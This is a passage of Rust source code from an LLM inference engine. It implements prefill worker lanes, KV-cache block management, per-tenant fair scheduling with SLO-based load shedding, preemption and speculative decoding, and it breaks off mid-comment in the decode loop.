    pub fn tenant_tokens_snapshot(&self) -> Vec<(String, u64)> {
        let mut v: Vec<(String, u64)> = self
            .tenant_tokens
            .lock()
            .unwrap()
            .iter()
            .map(|(k, n)| (k.clone(), *n))
            .collect();
        v.sort();
        v
    }

    /// Per-lane remaining prefill tokens (metrics exposition).
    pub fn lane_depth_snapshot(&self) -> Vec<u64> {
        self.prefill_lane_depth.lock().unwrap().clone()
    }
}

/// Messages into the engine thread: work, a prefill-lane completion, or a
/// bare wake-up (used by shutdown so the idle loop never has to poll).
enum Msg {
    Req(GenRequest),
    /// A prefill lane finished (or failed/aborted) its job.
    Lane(LaneReply),
    Wake,
}

/// One prompt handed to a prefill lane thread. The lane only *computes* —
/// all KV block bookkeeping stays on the engine thread, which reserved
/// the blocks at admission.
struct LaneJob {
    /// The sequence id whose KV reservation this prefill fills.
    job: u64,
    tokens: Vec<i32>,
    /// Tokens already covered (prefix-cache hits).
    done: usize,
    /// Chunk size (0 = the whole prompt in one pass).
    chunk: usize,
    /// Engine-set flag: stop between chunks (cancellation / preemption).
    abort: Arc<AtomicBool>,
    /// Tokens prefilled so far — the engine reads this every iteration
    /// for fair-share billing and the per-lane depth gauge.
    progress: Arc<AtomicUsize>,
}

struct LaneReply {
    job: u64,
    outcome: anyhow::Result<(Vec<f32>, SeqState)>,
}

/// A prefill lane thread: runs each job's prompt through the backend (in
/// chunks when supported), reporting progress as it goes and the final
/// logits back to the engine over the engine's own message channel. This
/// is the disaggregation point — a long-document prefill occupies a lane,
/// never a decode step.
fn lane_loop(backend: Arc<dyn Backend>, jobs: Receiver<LaneJob>, out: Sender<Msg>) {
    while let Ok(job) = jobs.recv() {
        let len = job.tokens.len();
        let mut done = job.done;
        let outcome = loop {
            if job.abort.load(Ordering::Relaxed) {
                break Err(anyhow::anyhow!("prefill aborted"));
            }
            let end = if job.chunk == 0 {
                len
            } else {
                len.min(done + job.chunk)
            };
            match backend.prefill(&job.tokens[..end], done) {
                Ok((logits, state)) => {
                    done = end;
                    job.progress.store(done, Ordering::Relaxed);
                    if done >= len {
                        break Ok((logits, state));
                    }
                }
                Err(e) => break Err(e),
            }
        };
        if out.send(Msg::Lane(LaneReply { job: job.job, outcome })).is_err() {
            return; // engine gone
        }
    }
}

/// Engine-side handle to a dispatched lane job.
struct LaneSlot {
    lane: usize,
    job: u64,
    abort: Arc<AtomicBool>,
    progress: Arc<AtomicUsize>,
}

/// Handle for submitting work; cheap to clone.
pub struct Engine {
    tx: Mutex<Sender<Msg>>,
    pub stats: Arc<EngineStats>,
    pub first_token_us: Arc<Histogram>,
    pub step_us: Arc<Histogram>,
    /// Submit-to-admission wait per fresh request.
    pub queue_wait_us: Arc<Histogram>,
    admission: Arc<AdmissionShared>,
    shutdown: Arc<AtomicBool>,
    thread: Mutex<Option<std::thread::JoinHandle<()>>>,
}

/// Admission state shared between submitters (shed decisions happen on
/// the caller's thread, before anything is queued) and the engine loop
/// (which refreshes the gauges each iteration).
struct AdmissionShared {
    controller: AdmissionController,
    /// Requests queued ahead (wait queue + resume queue + channel).
    queue_len: AtomicU64,
    /// Estimated prefill+decode tokens queued ahead.
    queued_tokens: AtomicU64,
}

struct RunningSeq {
    state: SeqState,
    sampler: Sampler,
    events: SyncSender<GenEvent>,
    cancel: CancelToken,
    position: i32,
    /// Every token of the sequence so far: prompt + sampled tokens. This
    /// is what a preempted sequence re-prefills from (and what the prefix
    /// cache keys on).
    history: Vec<i32>,
    generated: usize,
    max_tokens: usize,
    seq_id: u64,
    started_at: Instant,
    first_token_sent: bool,
    /// Last sampled token — the next decode step's input.
    last_token: i32,
    /// Tokens awaiting a slow consumer (beyond the channel's buffer).
    backlog: VecDeque<GenEvent>,
    /// When the consumer first fell behind (cleared once drained).
    stalled_since: Option<Instant>,
    /// Consumer gone but cancellation disabled (ablation): keep decoding,
    /// discard output — the pre-cancellation system's behaviour.
    events_dead: bool,
    /// Fair-share billing key: decode tokens are charged to this tenant.
    tenant: String,
    /// Priority class (travels along through preemption/resume).
    priority: Priority,
    /// Trace ID (travels through preemption so first-token attribution
    /// lands on the original request).
    trace: Option<crate::util::trace::TraceId>,
}

/// A queued request: fresh from a client, or a preempted sequence waiting
/// to recompute.
struct WaitItem {
    /// Prompt tokens — for a preempted sequence, prompt + generated.
    tokens: Vec<i32>,
    max_tokens: usize,
    sampling: SamplingParams,
    events: SyncSender<GenEvent>,
    cancel: CancelToken,
    /// Fair-share billing key (consumer identity from the gateway).
    tenant: String,
    priority: Priority,
    trace: Option<crate::util::trace::TraceId>,
    /// When the request entered the queue (queue-wait histogram).
    enqueued: Instant,
    /// Estimated prefill+decode tokens (the DRR release cost and the
    /// admission controller's queued-work unit).
    cost: u64,
    resume: Option<ResumeSeq>,
}

/// Estimated token cost of a request: the uncached prefill upper bound
/// plus the decode budget.
fn request_cost(prompt: &[i32], max_tokens: usize) -> u64 {
    (prompt.len() + max_tokens.max(1)) as u64
}

impl WaitItem {
    fn fresh(req: GenRequest) -> WaitItem {
        let cost = request_cost(&req.prompt_tokens, req.max_tokens);
        WaitItem {
            tokens: req.prompt_tokens,
            max_tokens: req.max_tokens.max(1),
            sampling: req.sampling,
            events: req.events,
            cancel: req.cancel,
            tenant: if req.tenant.is_empty() {
                "anonymous".to_string()
            } else {
                req.tenant
            },
            priority: req.priority,
            trace: req.trace,
            enqueued: Instant::now(),
            cost,
            resume: None,
        }
    }

    fn generated(&self) -> usize {
        self.resume.as_ref().map_or(0, |r| r.generated)
    }
}

/// Stream/sampling state carried across a preemption so the resumed
/// sequence continues exactly where it stopped (nothing is re-emitted).
struct ResumeSeq {
    sampler: Sampler,
    generated: usize,
    started_at: Instant,
    first_token_sent: bool,
    backlog: VecDeque<GenEvent>,
    stalled_since: Option<Instant>,
    events_dead: bool,
}

/// The admission slot: one prompt being prefilled — inline across chunks
/// (decode steps run in between), or out on a dedicated prefill lane.
struct ActivePrefill {
    item: WaitItem,
    seq_id: u64,
    /// Tokens covered so far: prefix-cache hits + completed chunks.
    done: usize,
    admitted_at: Instant,
    /// Set when the prefill is running on a lane thread.
    lane: Option<LaneSlot>,
}

/// Speculative decoding knobs (the `[speculative]` config section).
#[derive(Debug, Clone)]
pub struct SpeculativeConfig {
    /// Draft + verify instead of one-token-per-step decoding.
    pub enabled: bool,
    /// Max tokens proposed per sequence per step.
    pub draft_k: usize,
    /// Drafter/target agreement probability modeled by the analytic
    /// backend (a real deployment measures it; `SimBackend` simulates it
    /// so speedup curves stay honest).
    pub acceptance_rate: f64,
}

impl Default for SpeculativeConfig {
    fn default() -> SpeculativeConfig {
        SpeculativeConfig {
            enabled: false,
            draft_k: 4,
            acceptance_rate: 0.7,
        }
    }
}

/// Engine-level tuning exposed through `[engine]` config (the prefix
/// cache's ablation surface).
#[derive(Debug, Clone)]
pub struct EngineTuning {
    /// Content-hash full KV blocks and reuse shared prefixes.
    pub prefix_cache: bool,
    /// Max prompt tokens prefilled per engine iteration (0 = whole
    /// prompt in one pass; decode stalls behind long prompts).
    pub prefill_chunk: usize,
    /// KV blocks of decode headroom reserved per running sequence at
    /// admission, so preemption is the exception, not the steady state.
    pub growth_watermark: usize,
    /// Override the KV block budget (0 = derive from the backend shape).
    pub kv_blocks: usize,
    /// Dedicated prefill worker lanes (0 = prefill runs inline on the
    /// engine thread, interleaved chunk-by-chunk with decode steps).
    pub prefill_lanes: usize,
    /// Speculative decoding (`[speculative]` section).
    pub speculative: SpeculativeConfig,
    /// Multi-tenant fairness + admission control (`[fairness]` section).
    pub fairness: FairnessConfig,
}

impl Default for EngineTuning {
    fn default() -> EngineTuning {
        EngineTuning {
            prefix_cache: true,
            prefill_chunk: 512,
            growth_watermark: 2,
            kv_blocks: 0,
            prefill_lanes: 0,
            speculative: SpeculativeConfig::default(),
            fairness: FairnessConfig::default(),
        }
    }
}

/// Engine configuration knobs (ablation surface).
#[derive(Clone)]
pub struct EngineConfig {
    /// Cap on concurrent running sequences (≤ backend bucket).
    pub max_batch: usize,
    /// KV blocks available (admission budget).
    pub kv_blocks: usize,
    pub kv_block_size: usize,
    /// Max prompt length accepted (longer prompts are truncated from the
    /// left, keeping the suffix).
    pub max_prompt: usize,
    /// Admission/prefill-chunk operations per loop iteration
    /// (1 = decode-priority).
    pub prefills_per_iter: usize,
    /// Honor disconnects/cancel tokens by evicting the sequence (the
    /// ablation's "cancellation off" keeps decoding to `max_tokens`).
    pub cancellation: bool,
    /// What to do with a stream whose consumer stalled past the budget.
    pub stall_policy: StallPolicy,
    /// Backlog tokens tolerated beyond the channel buffer.
    pub stall_buffer: usize,
    /// Time a consumer may stall before the policy applies.
    pub stall_timeout: Duration,
    /// Prefix-cache switch (see [`EngineTuning`]).
    pub prefix_cache: bool,
    /// Prefill chunk size in tokens (see [`EngineTuning`]).
    pub prefill_chunk: usize,
    /// Admission growth reservation in blocks (see [`EngineTuning`]).
    pub growth_watermark: usize,
    /// Dedicated prefill worker lanes (see [`EngineTuning`]).
    pub prefill_lanes: usize,
    /// Speculative decoding (see [`SpeculativeConfig`]).
    pub speculative: SpeculativeConfig,
    /// Fair scheduling + SLO admission control (see [`FairnessConfig`]).
    pub fairness: FairnessConfig,
}

impl EngineConfig {
    pub fn for_backend(b: &dyn Backend) -> EngineConfig {
        Self::for_backend_tuned(b, &EngineTuning::default())
    }

    pub fn for_backend_tuned(b: &dyn Backend, tuning: &EngineTuning) -> EngineConfig {
        let max_seq = b.max_seq();
        EngineConfig {
            max_batch: b.max_batch(),
            // enough blocks for max_batch full-length sequences
            kv_blocks: if tuning.kv_blocks > 0 {
                tuning.kv_blocks
            } else {
                b.max_batch() * max_seq.div_ceil(16)
            },
            kv_block_size: 16,
            max_prompt: max_seq.saturating_sub(16).max(1),
            prefills_per_iter: 1,
            cancellation: true,
            stall_policy: StallPolicy::Disconnect,
            stall_buffer: 256,
            stall_timeout: Duration::from_secs(10),
            prefix_cache: tuning.prefix_cache,
            prefill_chunk: tuning.prefill_chunk,
            growth_watermark: tuning.growth_watermark,
            prefill_lanes: tuning.prefill_lanes,
            speculative: tuning.speculative.clone(),
            fairness: tuning.fairness.clone(),
        }
    }
}

impl Engine {
    /// Start the engine thread over `backend`.
    pub fn start(backend: Arc<dyn Backend>, config: EngineConfig) -> Arc<Engine> {
        let (tx, rx) = std::sync::mpsc::channel::<Msg>();
        let stats = Arc::new(EngineStats::default());
        let first_token_us = Arc::new(Histogram::new());
        let step_us = Arc::new(Histogram::new());
        let queue_wait_us = Arc::new(Histogram::new());
        let shutdown = Arc::new(AtomicBool::new(false));
        let admission = Arc::new(AdmissionShared {
            controller: AdmissionController::new(config.fairness.clone()),
            queue_len: AtomicU64::new(0),
            queued_tokens: AtomicU64::new(0),
        });

        let loop_stats = stats.clone();
        let loop_first = first_token_us.clone();
        let loop_step = step_us.clone();
        let loop_queue_wait = queue_wait_us.clone();
        let loop_shutdown = shutdown.clone();
        let loop_admission = admission.clone();
        // The loop keeps a sender to its own channel: prefill lanes post
        // their results back as ordinary messages.
        let loop_tx = tx.clone();
        let thread = std::thread::Builder::new()
            .name("llm-engine".into())
            .spawn(move || {
                engine_loop(
                    backend,
                    config,
                    rx,
                    loop_tx,
                    loop_stats,
                    loop_first,
                    loop_step,
                    loop_queue_wait,
                    loop_admission,
                    loop_shutdown,
                )
            })
            .expect("spawn engine");

        Arc::new(Engine {
            tx: Mutex::new(tx),
            stats,
            first_token_us,
            step_us,
            queue_wait_us,
            admission,
            shutdown,
            thread: Mutex::new(Some(thread)),
        })
    }

    /// Submit a request. Returns false if it was shed by admission control
    /// or the engine is shut down (use [`Engine::try_submit`] to tell the
    /// cases apart).
    pub fn submit(&self, req: GenRequest) -> bool {
        self.try_submit(req).is_ok()
    }

    /// Submit with SLO-aware admission control: requests that find the
    /// bounded queue full, or whose estimated queue wait exceeds their
    /// priority class's budget, are shed *now* — the caller turns the
    /// [`Shed`] into a fast 429/503 + `Retry-After` instead of letting the
    /// client time out deep in the stack.
    pub fn try_submit(&self, req: GenRequest) -> Result<(), Shed> {
        self.stats.requests.fetch_add(1, Ordering::Relaxed);
        let queue_len = self.admission.queue_len.load(Ordering::Relaxed) as usize;
        let queued_tokens = self.admission.queued_tokens.load(Ordering::Relaxed);
        let tps = self.stats.decode_tps_milli.load(Ordering::Relaxed) as f64 / 1e3;
        if let Err(shed) = self
            .admission
            .controller
            .admit(req.priority, queue_len, queued_tokens, tps)
        {
            match shed.reason {
                ShedReason::QueueFull => {
                    self.stats.shed_queue_full.fetch_add(1, Ordering::Relaxed)
                }
                ShedReason::WaitBudget => {
                    self.stats.shed_wait_budget.fetch_add(1, Ordering::Relaxed)
                }
            };
            return Err(shed);
        }
        // Count the pending work immediately so a burst arriving between
        // two engine iterations still sees a deepening queue.
        self.admission.queue_len.fetch_add(1, Ordering::Relaxed);
        self.admission
            .queued_tokens
            .fetch_add(request_cost(&req.prompt_tokens, req.max_tokens), Ordering::Relaxed);
        if self.tx.lock().unwrap().send(Msg::Req(req)).is_ok() {
            Ok(())
        } else {
            Err(Shed {
                reason: ShedReason::QueueFull,
                retry_after: Duration::from_secs(1),
            })
        }
    }

    pub fn stop(&self) {
        self.shutdown.store(true, Ordering::SeqCst);
        // Channel-wake: an idle loop is blocked on recv, not polling —
        // the Wake makes shutdown immediate.
        let _ = self.tx.lock().unwrap().send(Msg::Wake);
        if let Some(h) = self.thread.lock().unwrap().take() {
            let _ = h.join();
        }
    }
}

impl Drop for Engine {
    fn drop(&mut self) {
        self.shutdown.store(true, Ordering::SeqCst);
        let _ = self.tx.lock().unwrap().send(Msg::Wake);
        if let Some(h) = self.thread.lock().unwrap().take() {
            let _ = h.join();
        }
    }
}

/// What one prefill chunk did (extracted so the borrow on the active
/// prefill slot ends before the slot itself has to move).
enum ChunkOutcome {
    /// More chunks to go; let a decode step run in between.
    Progress,
    /// The whole prompt is in: first-token logits + sequence state.
    Complete(Vec<f32>, SeqState),
    Failed(String),
}

#[allow(clippy::too_many_arguments)]
fn engine_loop(
    backend: Arc<dyn Backend>,
    config: EngineConfig,
    rx: Receiver<Msg>,
    tx: Sender<Msg>,
    stats: Arc<EngineStats>,
    first_token_us: Arc<Histogram>,
    step_us: Arc<Histogram>,
    queue_wait_us: Arc<Histogram>,
    admission: Arc<AdmissionShared>,
    shutdown: Arc<AtomicBool>,
) {
    // Fresh requests queue per tenant under deficit round-robin; preempted
    // sequences resume through their own front-priority lane (they hold
    // client streams mid-flight — making them re-earn admission would turn
    // every preemption into a user-visible stall).
    let mut waiting: FairScheduler<WaitItem> = FairScheduler::new(&config.fairness);
    let mut resume_q: VecDeque<WaitItem> = VecDeque::new();
    let mut running: Vec<RunningSeq> = Vec::new();
    let mut active: Option<ActivePrefill> = None;
    let mut blocks = BlockManager::with_options(
        config.kv_blocks,
        config.kv_block_size,
        config.prefix_cache,
        config.growth_watermark,
    );
    let mut next_seq_id = 1u64;
    let mut last_tenant_sweep = Instant::now();

    // Dedicated prefill lanes: one worker thread per lane, each fed by
    // its own job channel, all replying over the engine's own channel.
    // With lanes on, `actives` replaces the single inline `active` slot;
    // decode steps never wait on a prompt again.
    let lanes = config.prefill_lanes;
    let mut lane_txs: Vec<Sender<LaneJob>> = Vec::with_capacity(lanes);
    for i in 0..lanes {
        let (jtx, jrx) = std::sync::mpsc::channel::<LaneJob>();
        let lane_backend = backend.clone();
        let lane_out = tx.clone();
        std::thread::Builder::new()
            .name(format!("llm-prefill-lane-{i}"))
            .spawn(move || lane_loop(lane_backend, jrx, lane_out))
            .expect("spawn prefill lane");
        lane_txs.push(jtx);
    }
    *stats.prefill_lane_depth.lock().unwrap() = vec![0; lanes];
    let mut actives: Vec<ActivePrefill> = Vec::new();
    let mut lane_replies: Vec<LaneReply> = Vec::new();
    // Did the previous iteration move any work forward? When false and
    // decode is idle, the loop blocks briefly instead of spinning while
    // every live request sits out on a lane.
    let mut progressed = true;

    let enqueue_fresh = |waiting: &mut FairScheduler<WaitItem>, config: &EngineConfig, req: GenRequest| {
        let item = WaitItem::fresh(req);
        let weight = config.fairness.weight(item.priority);
        let tenant = item.tenant.clone();
        let cost = item.cost;
        waiting.push(&tenant, weight, cost, item);
    };

    loop {
        if shutdown.load(Ordering::SeqCst) {
            if let Some(ap) = active.take() {
                let _ = ap
                    .item
                    .events
                    .try_send(GenEvent::Error("engine shutting down".into()));
            }
            for ap in actives.drain(..) {
                if let Some(slot) = &ap.lane {
                    slot.abort.store(true, Ordering::Relaxed);
                }
                let _ = ap
                    .item
                    .events
                    .try_send(GenEvent::Error("engine shutting down".into()));
            }
            for seq in running.drain(..) {
                let _ = seq.events.try_send(GenEvent::Error("engine shutting down".into()));
            }
            return;
        }

        // ---- intake -----------------------------------------------------
        if running.is_empty()
            && waiting.is_empty()
            && resume_q.is_empty()
            && active.is_none()
            && actives.is_empty()
        {
            // Idle housekeeping: drop bookkeeping for tenants that have
            // aged out (the churning-consumer leak guard), then block on
            // the channel until work (or a shutdown Wake) arrives. The
            // timeout is a lost-wake fallback, not a poll.
            waiting.evict_idle();
            match rx.recv_timeout(IDLE_WAKE_FALLBACK) {
                Ok(Msg::Req(req)) => enqueue_fresh(&mut waiting, &config, req),
                // A reply for a job aborted before going idle: its KV was
                // already released when the slot was dropped.
                Ok(Msg::Lane(_)) => continue,
                Ok(Msg::Wake) | Err(RecvTimeoutError::Timeout) => continue,
                Err(RecvTimeoutError::Disconnected) => return,
            }
        } else if !progressed && running.is_empty() && lane_replies.is_empty() {
            // Decode has nothing to chew on and the last pass moved
            // nothing forward — every live request is out on a prefill
            // lane (or stuck behind one). Block briefly for a lane reply
            // instead of spinning; fresh work still wakes us instantly.
            match rx.recv_timeout(Duration::from_millis(20)) {
                Ok(Msg::Req(req)) => enqueue_fresh(&mut waiting, &config, req),
                Ok(Msg::Lane(reply)) => lane_replies.push(reply),
                Ok(Msg::Wake) | Err(RecvTimeoutError::Timeout) => {}
                Err(RecvTimeoutError::Disconnected) => return,
            }
        }
        progressed = false;
        while let Ok(msg) = rx.try_recv() {
            match msg {
                Msg::Req(req) => enqueue_fresh(&mut waiting, &config, req),
                Msg::Lane(reply) => lane_replies.push(reply),
                Msg::Wake => {}
            }
        }
        let queued_now = (waiting.len() + resume_q.len()) as u64;
        stats.queue_depth.store(queued_now, Ordering::Relaxed);
        admission.queue_len.store(queued_now, Ordering::Relaxed);
        admission.queued_tokens.store(
            waiting.queued_cost() + resume_q.iter().map(|i| i.cost).sum::<u64>(),
            Ordering::Relaxed,
        );

        // ---- cancellation sweep ------------------------------------------
        // Evict sequences whose client went away: the slot and KV blocks
        // come back before this iteration's admission + decode. Shared
        // blocks only lose a reference — siblings keep them.
        if config.cancellation {
            if running.iter().any(|s| s.cancel.is_cancelled()) {
                let mut keep = Vec::with_capacity(running.len());
                for seq in running.drain(..) {
                    if seq.cancel.is_cancelled() {
                        retire_abandoned(seq, &mut blocks, &stats);
                    } else {
                        keep.push(seq);
                    }
                }
                running = keep;
            }
            if active
                .as_ref()
                .is_some_and(|ap| ap.item.cancel.is_cancelled())
            {
                abandon_prefill(active.take().unwrap(), &mut blocks, &stats);
            }
            let mut i = 0;
            while i < actives.len() {
                if actives[i].item.cancel.is_cancelled() {
                    let mut ap = actives.swap_remove(i);
                    if let Some(slot) = &ap.lane {
                        slot.abort.store(true, Ordering::Relaxed);
                    }
                    charge_lane_progress(&mut ap, &stats, &mut waiting);
                    abandon_prefill(ap, &mut blocks, &stats);
                } else {
                    i += 1;
                }
            }
        }

        // ---- prefill lane replies ----------------------------------------
        // Finished lane prompts join the running batch here — before this
        // iteration's admission, so the freed lane can be refilled at once.
        for reply in lane_replies.drain(..) {
            let Some(idx) = actives
                .iter()
                .position(|a| a.lane.as_ref().is_some_and(|l| l.job == reply.job))
            else {
                // Aborted (cancel/preempt) before the reply landed: the
                // slot is gone and its KV was already released.
                continue;
            };
            progressed = true;
            let mut ap = actives.swap_remove(idx);
            charge_lane_progress(&mut ap, &stats, &mut waiting);
            match reply.outcome {
                Ok((logits, state)) => finish_prefill(
                    ap,
                    logits,
                    state,
                    &config,
                    backend.max_seq(),
                    &mut blocks,
                    &mut running,
                    &mut waiting,
                    &stats,
                    &first_token_us,
                ),
                Err(e) => {
                    let _ = ap
                        .item
                        .events
                        .try_send(GenEvent::Error(format!("prefill: {e}")));
                    let _ = blocks.release_partial(ap.seq_id, ap.done);
                    stats.rejected.fetch_add(1, Ordering::Relaxed);
                }
            }
        }

        // ---- admission: dispatch to prefill lanes ------------------------
        if lanes > 0 {
            while actives.len() < lanes {
                let Some(mut ap) = admit_next(
                    &mut waiting,
                    &mut resume_q,
                    &mut blocks,
                    &config,
                    &stats,
                    &queue_wait_us,
                    running.len() + actives.len(),
                    &mut next_seq_id,
                ) else {
                    break;
                };
                // First lane index not already occupied by a live job.
                let lane_idx = (0..lanes)
                    .find(|i| {
                        !actives
                            .iter()
                            .any(|a| a.lane.as_ref().is_some_and(|l| l.lane == *i))
                    })
                    .expect("actives.len() < lanes leaves a free lane");
                let abort = Arc::new(AtomicBool::new(false));
                let progress = Arc::new(AtomicUsize::new(ap.done));
                let chunk = if backend.supports_chunked_prefill() {
                    config.prefill_chunk
                } else {
                    0
                };
                let job = LaneJob {
                    job: ap.seq_id,
                    tokens: ap.item.tokens.clone(),
                    done: ap.done,
                    chunk,
                    abort: abort.clone(),
                    progress: progress.clone(),
                };
                ap.lane = Some(LaneSlot {
                    lane: lane_idx,
                    job: ap.seq_id,
                    abort,
                    progress,
                });
                if lane_txs[lane_idx].send(job).is_err() {
                    let _ = ap
                        .item
                        .events
                        .try_send(GenEvent::Error("prefill lane unavailable".into()));
                    let _ = blocks.release_partial(ap.seq_id, ap.done);
                    stats.rejected.fetch_add(1, Ordering::Relaxed);
                } else {
                    progressed = true;
                    actives.push(ap);
                }
            }
            // Per-iteration lane bookkeeping: bill completed chunks to
            // their tenants as the work happens (not all at the end) and
            // refresh the per-lane depth gauge.
            for ap in actives.iter_mut() {
                charge_lane_progress(ap, &stats, &mut waiting);
            }
            let mut depth = vec![0u64; lanes];
            for ap in &actives {
                if let Some(slot) = &ap.lane {
                    depth[slot.lane] =
                        ap.item.tokens.len().saturating_sub(ap.done) as u64;
                }
            }
            *stats.prefill_lane_depth.lock().unwrap() = depth;
        }

        // ---- admission + (chunked) prefill, inline (lanes off) -----------
        for _ in 0..config.prefills_per_iter.max(1) {
            if lanes > 0 {
                break;
            }
            if active.is_none() {
                active = admit_next(
                    &mut waiting,
                    &mut resume_q,
                    &mut blocks,
                    &config,
                    &stats,
                    &queue_wait_us,
                    running.len(),
                    &mut next_seq_id,
                );
            }
            if active.is_none() {
                break;
            }
            progressed = true;
            let outcome = {
                let ap = active.as_mut().unwrap();
                let len = ap.item.tokens.len();
                // Chunking only helps when the backend can skip the
                // already-computed prefix; otherwise every chunk would
                // recompute from token zero (quadratic for PJRT).
                let end = if config.prefill_chunk == 0 || !backend.supports_chunked_prefill() {
                    len
                } else {
                    len.min(ap.done + config.prefill_chunk)
                };
                match backend.prefill(&ap.item.tokens[..end], ap.done) {
                    Ok((logits, state)) => {
                        let chunk_tokens = (end - ap.done) as u64;
                        stats
                            .prefill_tokens
                            .fetch_add(chunk_tokens, Ordering::Relaxed);
                        // Bill prefill work to the tenant that caused it —
                        // fresh prompts only. A resume's re-prefill is the
                        // engine's preemption choice, not new tenant
                        // demand; double-billing it would push preemption
                        // victims ever further back in fair-share order.
                        if ap.item.resume.is_none() {
                            stats.charge_tenant(&ap.item.tenant, chunk_tokens);
                            waiting.charge(&ap.item.tenant, chunk_tokens);
                        }
                        ap.done = end;
                        if end < len {
                            ChunkOutcome::Progress
                        } else {
                            ChunkOutcome::Complete(logits, state)
                        }
                    }
                    Err(e) => ChunkOutcome::Failed(e.to_string()),
                }
            };
            match outcome {
                ChunkOutcome::Progress => break, // interleave a decode step
                ChunkOutcome::Failed(e) => {
                    let ap = active.take().unwrap();
                    let _ = ap
                        .item
                        .events
                        .try_send(GenEvent::Error(format!("prefill: {e}")));
                    let _ = blocks.release_partial(ap.seq_id, ap.done);
                    stats.rejected.fetch_add(1, Ordering::Relaxed);
                }
                ChunkOutcome::Complete(logits, state) => {
                    let ap = active.take().unwrap();
                    finish_prefill(
                        ap,
                        logits,
                        state,
                        &config,
                        backend.max_seq(),
                        &mut blocks,
                        &mut running,
                        &mut waiting,
                        &stats,
                        &first_token_us,
                    );
                }
            }
        }
        stats.running.store(running.len() as u64, Ordering::Relaxed);

        if running.is_empty() {
            continue;
        }
        progressed = true;
        let max_seq = backend.max_seq();

        // ---- speculative drafts -------------------------------------------
        // Proposals come *before* the KV headroom check: every accepted
        // token appends to the KV cache, so the step's worst-case block
        // demand depends on the draft lengths. Only greedy sequences
        // speculate — argmax verification reproduces the plain decode
        // stream token-for-token; sampled sequences keep one row/step.
        let draft_k = if config.speculative.enabled {
            config.speculative.draft_k
        } else {
            0
        };
        let mut drafts: Vec<Vec<i32>> = running
            .iter()
            .map(|s| {
                if draft_k == 0 || !s.sampler.is_greedy() {
                    return Vec::new();
                }
                // Never draft past the sequence's own budgets: the verify
                // row count is bounded by draft+1, so clamping here keeps
                // a multi-token accept from overshooting max_tokens or
                // the model context.
                let budget = s
                    .max_tokens
                    .saturating_sub(s.generated)
                    .saturating_sub(1)
                    .min(max_seq.saturating_sub(2).saturating_sub(s.position as usize));
                let k = draft_k.min(budget);
                if k == 0 {
                    return Vec::new();
                }
                backend.draft(&s.state, &s.history, k)
            })
            .collect();

        // ---- KV headroom: preempt *before* the step, don't error after ----
        // Each sequence appends up to draft+1 tokens this step; if the
        // total block demand exceeds what is free + reclaimable, park the
        // youngest sequences back on the wait queue. They re-prefill from
        // their (likely still cached) prefix later.
        loop {
            let needed: usize = running
                .iter()
                .zip(&drafts)
                .map(|(s, d)| match blocks.seq_tokens(s.seq_id) {
                    Some(t) => {
                        (t + d.len() + 1).div_ceil(config.kv_block_size)
                            - t.div_ceil(config.kv_block_size)
                    }
                    None => 0,
                })
                .sum();
            if needed <= blocks.available_blocks() {
                break;
            }
            // Relief ladder, cheapest first. Shedding this step's drafts
            // costs one step of speculation; parking work costs a
            // re-prefill; preempting a running sequence costs that *and*
            // a client-visible stall.
            if drafts.iter().any(|d| !d.is_empty()) {
                for d in drafts.iter_mut() {
                    d.clear();
                }
                continue;
            }
            // The in-flight prefill is the youngest work of all: park it
            // first. Only blocks its chunks actually computed may retire
            // into the prefix cache; the rest are blanked.
            if let Some(ap) = active.take() {
                stats.preemptions.fetch_add(1, Ordering::Relaxed);
                let _ = blocks.release_partial(ap.seq_id, ap.done);
                resume_q.push_front(ap.item);
                continue;
            }
            if let Some(mut ap) = actives.pop() {
                stats.preemptions.fetch_add(1, Ordering::Relaxed);
                if let Some(slot) = &ap.lane {
                    slot.abort.store(true, Ordering::Relaxed);
                }
                charge_lane_progress(&mut ap, &stats, &mut waiting);
                let _ = blocks.release_partial(ap.seq_id, ap.done);
                resume_q.push_front(ap.item);
                continue;
            }
            if running.len() <= 1 {
                break; // a lone sequence has nobody to evict for it
            }
            let victim = running.pop().unwrap();
            drafts.pop();
            preempt(victim, &mut resume_q, &mut blocks, &stats);
        }

        // ---- one batched decode/verify step -------------------------------
        let tokens: Vec<i32> = running.iter().map(|s| s.last_token).collect();
        let positions: Vec<i32> = running.iter().map(|s| s.position).collect();
        let speculating = drafts.iter().any(|d| !d.is_empty());
        let step_start = Instant::now();
        let mut states: Vec<&mut SeqState> =
            running.iter_mut().map(|s| &mut s.state).collect();
        // With drafts in hand the step verifies them all in one batched
        // pass; each sequence comes back with 1..=draft+1 logits rows
        // (accepted prefix + the correction/bonus row). Without drafts
        // this is the plain one-row-per-sequence decode.
        let result = if speculating {
            backend.verify(&tokens, &positions, &drafts, &mut states)
        } else {
            backend
                .decode(&tokens, &positions, &mut states)
                .map(|rows| rows.into_iter().map(|row| vec![row]).collect::<Vec<_>>())
        };
        drop(states);
        let step_elapsed = step_start.elapsed();
        step_us.record(step_elapsed.as_micros() as u64);
        stats.decode_steps.fetch_add(1, Ordering::Relaxed);
        stats
            .batched_seqs
            .fetch_add(running.len() as u64, Ordering::Relaxed);
        if speculating {
            stats.spec_proposed_tokens.fetch_add(
                drafts.iter().map(|d| d.len() as u64).sum::<u64>(),
                Ordering::Relaxed,
            );
        }

        match result {
            Ok(outcomes) => {
                let total_rows: u64 = outcomes.iter().map(|r| r.len() as u64).sum();
                if speculating {
                    // rows − 1 of each sequence are accepted draft tokens.
                    stats.spec_accepted_tokens.fetch_add(
                        total_rows - running.len() as u64,
                        Ordering::Relaxed,
                    );
                }
                // Smoothed decode throughput over *emitted* tokens (every
                // accepted draft token counts) — the admission
                // controller's wait denominator, and the accepted-tokens-
                // per-step gauge the ablation reads.
                let secs = step_elapsed.as_secs_f64();
                if secs > 0.0 {
                    let inst = (total_rows as f64 / secs * 1e3) as u64;
                    let prev = stats.decode_tps_milli.load(Ordering::Relaxed);
                    let next = if prev == 0 { inst } else { (prev * 7 + inst) / 8 };
                    stats.decode_tps_milli.store(next, Ordering::Relaxed);
                }
                if !running.is_empty() {
                    let inst = total_rows * 1000 / running.len() as u64;
                    let prev = stats.spec_tokens_per_step_milli.load(Ordering::Relaxed);
                    let next = if prev == 0 { inst } else { (prev * 7 + inst) / 8 };
                    stats
                        .spec_tokens_per_step_milli
                        .store(next, Ordering::Relaxed);
                }
                let mut keep: Vec<RunningSeq> = Vec::with_capacity(running.len());
                'seqs: for (mut seq, rows) in running.drain(..).zip(outcomes) {
                    // Apply the accepted batch row by row: each row is one
                    // KV append (of the row's *input* token) + one sample
                    // + one delivery, so max_tokens, context limits, stall
                    // policy and disconnects all bite mid-batch exactly as
                    // they would between plain steps — the tail rows are
